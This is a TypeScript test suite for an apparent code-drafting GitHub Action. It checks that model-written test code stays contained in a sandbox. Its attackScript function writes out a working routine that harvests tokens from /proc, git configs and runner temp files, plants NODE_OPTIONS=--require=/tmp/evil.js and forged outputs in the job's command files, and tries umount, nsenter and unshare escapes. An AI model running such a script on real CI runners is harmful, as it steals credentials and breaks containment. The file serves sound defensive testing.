// The test command runs code a model wrote. Here a drafted file really tries every way
// out of the sandbox, run by the built action as the runner runs it, and the test checks
// what reached the models, GitHub, the log and the job's command files.
import { execFileSync } from 'node:child_process'
import { randomUUID } from 'node:crypto'
import { existsSync } from 'node:fs'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { branchFiles, git } from '../emulators/git'
import { OWNER, REPO, SECRETS, startWorld, type ActionRun, type World } from '../emulators/harness'
import type { EmulatorTurn } from '../emulators/models'
import { UNISOLATED_WARNING } from '../src/report'
import { ISSUE, SAMPLE_FILES } from './fixtures/sample-repo'

const repo = `${OWNER}/${REPO}`
const BRANCH = 'draft-review/issue-12'
const approve: EmulatorTurn = { json: { verdict: 'approve', summary: 'ok', findings: [] } }
const fixSum: EmulatorTurn = {
  toolCalls: [{ name: 'edit_file', input: { path: 'src/sum.js', old_string: 'return a - b', new_string: 'return a + b', replace_all: false } }]
}
const finish: EmulatorTurn = { toolCalls: [{ name: 'finish', input: { summary: 'done' } }] }
const write = (path: string, content: string): EmulatorTurn => ({ toolCalls: [{ name: 'write_file', input: { path, content } }] })

const RUNTIME_TOKEN = 'canary-actions-runtime-4d8e1b'
const ID_TOKEN = 'canary-id-token-request-93c7aa'
const BASIC = Buffer.from(`x-access-token:${SECRETS.githubToken}`).toString('base64')
const CANARIES = [SECRETS.githubToken, SECRETS.anthropicKey, SECRETS.openaiKey, BASIC, RUNTIME_TOKEN, ID_TOKEN]

/** Each canary as the attack prints it, computed here independently of src/secrets.ts. */
function encodings(s: string): string[] {
  const out = [s, Buffer.from(s).toString('hex'), [...s].reverse().join('')]
  for (let k = 0; k < 3; k++) {
    const b64 = Buffer.from('a'.repeat(k) + s).toString('base64')
    out.push(b64.slice(k ? 4 : 0, Math.floor((k + s.length) / 3) * 4))
  }
  return out
}

let world: World
let listener: Server
let connections: number
let port: number
beforeEach(async () => {
  connections = 0
  listener = createServer((socket) => {
    connections++
    socket.destroy()
  })
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r))
  port = (listener.address() as { port: number }).port
})
afterEach(async () => {
  await world.close()
  await new Promise((r) => listener.close(r))
})

/** Sets the workspace and HOME up the way actions/checkout v5 and v6 leave them, with the token. */
async function plantCredentials(w: World): Promise<{ credentialsFile: string }> {
  await git(w.workspace, ['config', '--local', 'http.https://github.example/.extraheader', `AUTHORIZATION: basic ${BASIC}`])
  const credentialsFile = join(w.runnerTemp, `git-credentials-${randomUUID()}.config`)
  await writeFile(credentialsFile, `[http "https://github.example/"]\n\textraheader = AUTHORIZATION: basic ${BASIC}\n`)
  await git(w.workspace, ['config', '--local', `includeIf.gitdir:${w.workspace}/.git.path`, credentialsFile])
  await writeFile(join(w.home, '.gitconfig'), `[url "https://x-access-token:${SECRETS.githubToken}@github.example/"]\n\tinsteadOf = https://github.example/\n`)
  await writeFile(join(w.home, '.git-credentials'), `https://x-access-token:${SECRETS.githubToken}@github.example\n`)
  await mkdir(join(w.home, '.config', 'git'), { recursive: true })
  await writeFile(join(w.home, '.config', 'git', 'config'), `[credential]\n\thelper = store\n# ${SECRETS.githubToken}\n`)
  return { credentialsFile }
}

/** The drafted "test": it looks everywhere a secret could be, tries every way out, and prints what it found in four encodings. */
interface Targets {
  githubEnv: string
  githubOutput: string
  bareHook: string
  outside: string
  etc: string
  /** Try umount, mount, nsenter: only inside the sandbox (as root outside it they would work on this machine). */
  escapes: boolean
}

function attackScript(w: World, t: Targets): string {
  const paths = { runnerTemp: w.runnerTemp, home: w.home, port, ...t }
  return `// attack.js
const fs = require('fs'), net = require('net'), cp = require('child_process')
const P = ${JSON.stringify(paths)}
const report = {}
const read = (p) => { try { return fs.readFileSync(p, 'utf8') } catch (e) { return 'ERR ' + e.code } }
const tryRun = (cmd, args) => { const r = cp.spawnSync(cmd, args, { encoding: 'utf8' }); return r.status === 0 ? 'succeeded' : 'failed: ' + (r.stderr || r.error?.code || '').split('\\n')[0] }
const tryWrite = (p, text) => { try { fs.appendFileSync(p, text); return 'written' } catch (e) { return 'refused ' + e.code } }
let blob = ''
const pids = fs.readdirSync('/proc').filter((n) => /^\\d+$/.test(n))
report.pids = pids.length
for (const p of pids) blob += read('/proc/' + p + '/environ') + '\\n' + read('/proc/' + p + '/cmdline') + '\\n'
blob += read('.git/config') + read(P.home + '/.gitconfig') + read(P.home + '/.git-credentials') + read(P.home + '/.config/git/config')
let temp = []
try { temp = fs.readdirSync(P.runnerTemp); report.runnerTemp = temp.length } catch (e) { report.runnerTemp = 'ERR ' + e.code }
for (const f of temp) blob += read(P.runnerTemp + '/' + f)
try { blob += cp.execSync('git config --list --show-origin', { encoding: 'utf8' }) } catch (e) { blob += String(e.stdout || '') }
const found = [...new Set(blob.match(/(ghs_|sk-ant-|sk-openai-|canary-)[A-Za-z0-9_-]+|basic [A-Za-z0-9+\\/=]{8,}/g) || [])]
report.found = found.length
report.githubEnv = tryWrite(P.githubEnv, 'NODE_OPTIONS=--require=/tmp/evil.js\\n')
report.githubOutput = tryWrite(P.githubOutput, 'approved<<EOF\\ntrue\\nEOF\\nforged<<EOF\\nyes\\nEOF\\n')
report.bareHook = tryWrite(P.bareHook, '#!/bin/sh\\necho pwned\\n')
report.outside = tryWrite(P.outside, 'pwned\\n')
report.etc = tryWrite(P.etc, 'x')
if (P.escapes) {
  report.umountProc = tryRun('umount', ['/proc'])
  report.umountTmp = tryRun('umount', ['-l', '/tmp'])
  report.remountRoot = tryRun('mount', ['-o', 'remount,rw', '/'])
  report.mountProc = tryRun('mount', ['-t', 'proc', 'proc', '/mnt'])
  report.nsenter = tryRun('nsenter', ['-t', '1', '-m', '-n', '-p', 'true'])
  report.userns = tryRun('unshare', ['-r', '-m', 'umount', '/tmp'])
}
const sock = net.connect(P.port, '127.0.0.1')
const end = (what) => {
  report.tcp = what
  sock.destroy()
  console.log('ATTACK-REPORT ' + JSON.stringify(report))
  for (const s of found) {
    console.log('raw ' + s)
    console.log('hex ' + Buffer.from(s).toString('hex'))
    console.log('b64 ' + Buffer.from(s).toString('base64'))
    console.log('b64+1 ' + Buffer.from('x' + s).toString('base64'))
    console.log('rev ' + [...s].reverse().join(''))
  }
  console.log('blob-hex ' + Buffer.from(blob).toString('hex').slice(0, 1500))
}
sock.on('connect', () => end('connected'))
sock.on('error', (e) => end('refused ' + e.code))
setTimeout(() => end('no answer'), 3000).unref()
`
}

function placesOf(w: World, run: ActionRun, commits: string, tree: Record<string, string>): Record<string, string> {
  const pr = w.github.pulls(repo)[0]
  return {
    'model requests': JSON.stringify([...w.anthropic.requests, ...w.openai.requests].map((r) => r.body)),
    comments: JSON.stringify([...(pr ? w.github.comments(repo, pr.number) : []), ...w.github.comments(repo, ISSUE.number)]),
    'pull request': JSON.stringify(pr ?? null),
    outputs: JSON.stringify(run.outputs),
    'job summary': run.stepSummary,
    // The runner consumes ::add-mask:: lines itself; everything else is the visible log.
    log: (run.stdout + run.stderr).replace(/^::add-mask::.*$/gm, ''),
    commits,
    'pushed files': JSON.stringify(tree)
  }
}

function expectNoCanary(places: Record<string, string>): void {
  for (const [place, text] of Object.entries(places)) {
    for (const canary of CANARIES) {
      for (const form of encodings(canary)) expect({ place, form, leaked: text.includes(form) }).toEqual({ place, form, leaked: false })
    }
  }
}

function attackReport(w: World): Record<string, string | number> {
  const feedback = w.anthropic.requests.filter((r) => r.model === 'claude-sonnet-4-6')[2]!.messages.at(-1)!.text
  const line = feedback.split('\n').find((l) => l.startsWith('ATTACK-REPORT '))
  expect(line).toBeDefined()
  return JSON.parse(line!.slice('ATTACK-REPORT '.length))
}

const TEST_COMMAND = 'node attack.js; node test.js'

test('a drafted test that tries every way out of the sandbox finds no secret and changes nothing outside the workspace', async () => {
  world = await startWorld({ files: SAMPLE_FILES, issue: ISSUE })
  const { credentialsFile } = await plantCredentials(world)
  const configBefore = await readFile(join(world.workspace, '.git', 'config'))
  const credentialsBefore = await readFile(credentialsFile)
  const homeBefore = await readFile(join(world.home, '.gitconfig'))
  const outside = join(world.runnerTemp, '..', 'outside-canary.txt')
  // The harness names the first run's command files set_env_1 and set_output_1.
  const commandDir = join(world.runnerTemp, '_runner_file_commands')
  const targets: Targets = {
    githubEnv: join(commandDir, 'set_env_1'),
    githubOutput: join(commandDir, 'set_output_1'),
    bareHook: join(world.bareDir, 'hooks', 'post-receive'),
    outside,
    etc: '/etc/draft-review-pwned',
    escapes: true
  }
  world.anthropic.respond('claude-sonnet-4-6', [write('attack.js', attackScript(world, targets)), finish, fixSum, finish])
  world.anthropic.respond('claude-opus-4-8', [approve])

  const run = await world.run({
    inputs: { 'test-command': TEST_COMMAND, 'test-timeout-seconds': '60' },
    env: { ACTIONS_RUNTIME_TOKEN: RUNTIME_TOKEN, ACTIONS_ID_TOKEN_REQUEST_TOKEN: ID_TOKEN, GH_TOKEN: SECRETS.githubToken }
  })
  expect(run.outputs['stop-reason']).toBe('approved')

  // What the attack saw, from its own report in the failing run's output (sent to the drafter).
  const report = attackReport(world)
  expect(report).toMatchObject({
    found: 0,
    githubEnv: expect.stringMatching(/^refused/),
    githubOutput: expect.stringMatching(/^refused/),
    bareHook: expect.stringMatching(/^refused/),
    outside: expect.stringMatching(/^refused/),
    etc: expect.stringMatching(/^refused/),
    umountProc: expect.stringMatching(/^failed/),
    umountTmp: expect.stringMatching(/^failed/),
    remountRoot: expect.stringMatching(/^failed/),
    mountProc: expect.stringMatching(/^failed/),
    nsenter: expect.stringMatching(/^failed/),
    userns: expect.stringMatching(/^failed/),
    tcp: expect.stringMatching(/^refused/)
  })
  // RUNNER_TEMP is not there, or empty (a tmpfs over it).
  expect([0, 'ERR ENOENT']).toContain(report.runnerTemp)
  // Only the sandbox's own processes: its init, bash, node and what node started.
  expect(report.pids).toBeLessThan(10)
  expect(connections).toBe(0)

  expect(run.commandFiles).toEqual({ env: '', path: '', state: '' })
  expect(Object.keys(run.outputs)).not.toContain('forged')
  expect(existsSync(outside)).toBe(false)
  expect(existsSync(join(world.bareDir, 'hooks', 'post-receive'))).toBe(false)
  // The credentials are back, byte for byte: later steps of the job still have them.
  expect(await readFile(join(world.workspace, '.git', 'config'))).toEqual(configBefore)
  expect(await readFile(credentialsFile)).toEqual(credentialsBefore)
  expect(await readFile(join(world.home, '.gitconfig'))).toEqual(homeBefore)

  const tree = (await branchFiles(world.bareDir, BRANCH))!
  expectNoCanary(placesOf(world, run, await git(world.bareDir, ['log', '--format=%B', BRANCH]), tree))
})

test('unisolated (test-sandbox: false), the same attack reads the secrets, and no encoding of them reaches a model, GitHub or the log; the summary says so', async () => {
  world = await startWorld({ files: SAMPLE_FILES, issue: ISSUE })
  await plantCredentials(world)
  // Unisolated, every write would land: point them at a throwaway folder, and try no mount as root.
  const throwaway = join(world.runnerTemp, 'throwaway')
  await mkdir(throwaway)
  const targets: Targets = {
    githubEnv: join(throwaway, 'env'),
    githubOutput: join(throwaway, 'output'),
    bareHook: join(throwaway, 'hook'),
    outside: join(throwaway, 'outside'),
    etc: join(throwaway, 'etc'),
    escapes: false
  }
  world.anthropic.respond('claude-sonnet-4-6', [write('attack.js', attackScript(world, targets)), finish, fixSum, finish])
  world.anthropic.respond('claude-opus-4-8', [approve])

  const run = await world.run({
    inputs: { 'test-command': TEST_COMMAND, 'test-timeout-seconds': '60', 'test-sandbox': 'false' },
    env: { ACTIONS_RUNTIME_TOKEN: RUNTIME_TOKEN, ACTIONS_ID_TOKEN_REQUEST_TOKEN: ID_TOKEN }
  })
  expect(run.outputs['stop-reason']).toBe('approved')
  // Without the sandbox the attack does find the secrets (the action's own /proc environ)...
  const report = attackReport(world)
  expect(report.found).toBeGreaterThan(0)
  // ...and prints them raw, hex, base64 and reversed: redaction catches every form.
  const tree = (await branchFiles(world.bareDir, BRANCH))!
  expectNoCanary(placesOf(world, run, await git(world.bareDir, ['log', '--format=%B', BRANCH]), tree))

  const pr = world.github.pulls(repo)[0]!
  const summary = world.github.comments(repo, pr.number).find((c) => c.body.includes('draft-review:summary'))!.body
  expect(summary).toContain(UNISOLATED_WARNING)
  expect(run.stepSummary).toContain(UNISOLATED_WARNING)
})

const ORDINARY_SUITE = `// suite.js: what an ordinary test suite does
const assert = require('node:assert'), cp = require('node:child_process'), fs = require('node:fs')
const os = require('node:os'), path = require('node:path'), http = require('node:http')
const { sum } = require('./src/sum')
assert.strictEqual(sum(2, 3), 5)
assert.strictEqual(cp.execFileSync('node', ['-e', 'console.log(6 * 7)'], { encoding: 'utf8' }).trim(), '42')
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'suite-'))
fs.writeFileSync(path.join(dir, 'scratch.txt'), 'ok')
assert.strictEqual(fs.readFileSync(path.join(dir, 'scratch.txt'), 'utf8'), 'ok')
fs.mkdirSync('coverage', { recursive: true })
fs.writeFileSync('coverage/lcov.info', 'TN:\\n')
// A watcher left running, detached in a session of its own: it must not hold the run.
cp.spawn('sleep', ['${'$'}{SLEEP}'], { detached: true, stdio: 'inherit' }).unref()
const server = http.createServer((req, res) => res.end('pong'))
server.listen(0, '127.0.0.1', async () => {
  const res = await fetch('http://127.0.0.1:' + server.address().port + '/')
  assert.strictEqual(await res.text(), 'pong')
  console.log('suite: 4 passed')
  server.close()
})
`

/** Processes still running \`sleep <seconds>\` (the unique duration marks this test's). */
function sleepers(seconds: number): string[] {
  try {
    return execFileSync('pgrep', ['-f', `^sleep ${seconds}$`], { encoding: 'utf8' }).split('\n').filter(Boolean)
  } catch {
    return []
  }
}

for (const sandbox of ['true', 'false']) {
  test(`an ordinary suite passes (${sandbox === 'true' ? 'in the sandbox' : 'unisolated'}): child processes, temp files, a loopback server; what it left running does not hold the run and is ended`, async () => {
    const seconds = 6000 + Math.floor(Math.random() * 900)
    world = await startWorld({ files: SAMPLE_FILES, issue: ISSUE })
    world.anthropic.respond('claude-sonnet-4-6', [write('suite.js', ORDINARY_SUITE.replace('${SLEEP}', String(seconds))), fixSum, finish])
    world.anthropic.respond('claude-opus-4-8', [approve])
    const run = await world.run({
      inputs: {
        // Background work that keeps stdout open, inside and outside the process group.
        'test-command': `(sleep ${seconds} &); setsid sleep ${seconds} & node suite.js`,
        // A test command that hung on what it left would time out here and not be approved.
        'test-timeout-seconds': '40',
        'test-sandbox': sandbox
      }
    })
    expect(run.outputs['stop-reason']).toBe('approved')
    expect(world.anthropic.requests.filter((r) => r.model === 'claude-sonnet-4-6')).toHaveLength(3)
    expect(run.stepSummary).toContain('Tests: 1 of 1 runs passed')
    expect(sleepers(seconds)).toEqual([])
    if (sandbox === 'true') expect(run.stepSummary).not.toContain('unisolated')
    else expect(run.stepSummary).toContain(UNISOLATED_WARNING)
    // What the suite wrote in the workspace is the suite's, not the drafter's: not pushed.
    expect(Object.keys((await branchFiles(world.bareDir, BRANCH))!)).not.toContain('coverage/lcov.info')
  })
}
